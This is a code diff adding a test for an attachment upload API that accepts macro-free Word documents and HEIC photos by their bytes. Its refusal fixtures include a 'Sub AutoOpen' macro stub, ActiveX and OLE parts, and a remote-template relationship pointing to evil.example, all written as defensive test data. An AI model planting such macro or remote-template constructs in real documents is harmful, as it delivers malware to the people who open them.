@@ -1,8 +1,10 @@
 import { randomUUID } from 'node:crypto';
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { buffer } from 'node:stream/consumers';
 import { deflateSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ZipFile } from 'yazl';
 import { api } from '#contract/api.ts';
 import { type Attachment, maxAttachmentBytes } from '#contract/messages/attachments.ts';
 import type { ErrorBody } from '#contract/base/errors.ts';
@@ -22,6 +24,16 @@ const aPng = Buffer.concat([
   deflateSync(Buffer.alloc(64)),
   Buffer.from('IEND'),
 ]);
+
+const wordTypes = (kind: string) =>
+  `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.${kind}+xml"/></Types>`;
+
+async function aZip(parts: Record<string, string>): Promise<Buffer<ArrayBuffer>> {
+  const zip = new ZipFile();
+  for (const [name, text] of Object.entries(parts)) zip.addBuffer(Buffer.from(text), name);
+  zip.end();
+  return Buffer.from(await buffer(zip.outputStream));
+}
 
 async function talking() {
   const draft = await sentIn(house);
@@ -81,6 +93,34 @@ describe('an attachment', () => {
       'attachment_refused',
     );
     expect(await refused(Buffer.concat([aPng, Buffer.alloc(maxAttachmentBytes), aPng]))).toBe('attachment_too_large');
+  });
+
+  it('is a Word document without macros, or a picture of a phone, by its bytes', async () => {
+    const { candidate, id } = await talking();
+    const sent = async (bytes: Buffer<ArrayBuffer>, name: string) => {
+      const { status, body } = await attach(candidate, id, bytes, name);
+      return status === 200 ? [body.type, body.filename] : body.code;
+    };
+    const plain = { '[Content_Types].xml': wordTypes('document.main'), 'word/document.xml': '<w:document/>' };
+    expect(await sent(await aZip(plain), 'Résumé.doc.docx')).toEqual(['docx', 'Résumé.doc.docx']);
+    const template = 'relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"';
+    const refused: Record<string, string>[] = [
+      { 'notes.txt': 'An archive, no document' },
+      { ...plain, 'word/vbaProject.bin': 'Sub AutoOpen' },
+      { ...plain, 'word/activeX/activeX1.xml': '<ax/>' },
+      { ...plain, 'word/embeddings/oleObject1.bin': 'program' },
+      { ...plain, '[Content_Types].xml': wordTypes('document.macroEnabled.main') },
+      { ...plain, 'word/_rels/settings.xml.rels': template },
+    ];
+    for (const parts of refused) expect(await sent(await aZip(parts), 'cv.docx')).toBe('attachment_refused');
+    expect(await sent(Buffer.from('PK\x03\x04 cut off'), 'cv.docx')).toBe('attachment_refused');
+
+    const heic = (brands: string) =>
+      Buffer.concat([Buffer.from([0, 0, 0, 8 + brands.length]), Buffer.from(`ftyp${brands}`), Buffer.alloc(64)]);
+    expect(await sent(heic('heic\0\0\0\0mif1heic'), 'IMG_1.HEIC')).toEqual(['heic', 'IMG_1.heic']);
+    expect(await sent(heic('mif1\0\0\0\0mif1heic'), 'IMG_2.jpg')).toEqual(['heic', 'IMG_2.heic']);
+    expect(await sent(heic('mif1\0\0\0\0mif1avif'), 'IMG_3.heic')).toBe('attachment_refused');
+    expect(await sent(heic('mp42\0\0\0\0isommp42'), 'film.heic')).toBe('attachment_refused');
   });
 
   it('belongs to one message, of its author and its conversation', async () => {
